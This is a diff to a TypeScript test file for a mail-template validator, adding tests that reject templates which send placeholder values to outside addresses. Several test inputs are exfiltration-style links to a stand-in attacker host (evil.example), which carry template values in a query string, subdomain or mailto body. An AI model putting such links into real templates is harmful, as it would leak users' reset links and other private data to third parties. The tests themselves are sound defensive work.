@@ -1,5 +1,13 @@
 import { expect, it } from 'vitest';
-import { mailFaults, placeholdersIn, refusedPlaceholders, type TypedMail } from '../../src/text/mail-template.ts';
+import {
+  MAIL_KINDS,
+  mailFaults,
+  NOT_OF_PLANS,
+  placeholdersIn,
+  placeholdersOf,
+  refusedPlaceholders,
+  type TypedMail,
+} from '../../src/text/mail-template.ts';
 
 it('finds each placeholder once, however it is spaced', () => {
   expect(placeholdersIn('{{date}} {{ time }} {{date}}', '<p>{{ a b }}</p> { } {{}}')).toEqual([
@@ -44,6 +52,53 @@ it.each([
   ['pending', { subject_en: 'A', subject_fr: 'A', mail_en: '{{comment}}', mail_fr: '{{comment}}' }, {}],
   ['reset', { subject_en: 'A', subject_fr: 'A', action_en: 'Choose' }, { mail_fr: 'rule_mail_link' }],
   ['reset', { subject_en: 'A', subject_fr: 'A', action_en: 'Choose', mail_fr: '{{link}}' }, {}],
+  [
+    'pending',
+    {
+      subject_en: 'A',
+      subject_fr: 'A',
+      mail_en: '<a href="https://x.test/{{comment}}">News</a>',
+      mail_fr: '{{comment}}',
+    },
+    { mail_en: 'rule_mail_comment' },
+  ],
 ] as const)('a template of kind %s with %j', (kind, more, faults) => {
   expect(mailFaults(mail(more), kind)).toEqual(faults);
+});
+
+/** Of an account or a document: none is about an appointment, an offer or a file's state. */
+const ofAccounts = MAIL_KINDS.filter(
+  (kind) => NOT_OF_PLANS.includes(kind) && !['offer', 'pending', 'refused'].includes(kind),
+);
+
+it.each(ofAccounts)('a mail of kind %s sends no value to an address of its author', (kind) => {
+  const whole = placeholdersOf(kind)
+    .map((name) => `<p>{{${name}}}</p>`)
+    .join('');
+  const faultOf = (mail_en: string) =>
+    mailFaults(
+      mail({ subject_en: 'A', subject_fr: 'A', action_en: 'Open', action_fr: 'Ouvrir', mail_en, mail_fr: whole }),
+      kind,
+    ).mail_en;
+  expect(faultOf(whole)).toBeUndefined();
+  expect(faultOf(`${whole}<a href="https://evil.example/">Help</a>`)).toBeUndefined();
+  for (const name of placeholdersOf(kind))
+    for (const address of [
+      `https://evil.example/?{{${name}}}`,
+      `{{ ${name} }}.evil.example`,
+      `mailto:x@evil.example?body={{${name}}}`,
+    ])
+      expect(faultOf(`${whole}<a href="${address}">Open</a>`), address).toBe('rule_mail_address');
+  const isLinked = placeholdersOf(kind).includes('link');
+  expect(faultOf(`${whole}<a href="{{ link }}" target="_blank">Open</a>`)).toBe(
+    isLinked ? undefined : 'rule_mail_placeholders',
+  );
+});
+
+it('a mail about a second step says what happened where it is read', () => {
+  const faults = (mail_en: string) =>
+    mailFaults(mail({ subject_en: 'A', subject_fr: 'A', mail_en, mail_fr: '{{change}}' }), 'second_step');
+  expect(faults('<p>{{change}}</p>')).toEqual({});
+  expect(faults('<p>News</p>')).toEqual({ mail_en: 'rule_mail_change' });
+  expect(faults('<a href="https://x.example/?{{change}}">News</a>')).toEqual({ mail_en: 'rule_mail_address' });
 });
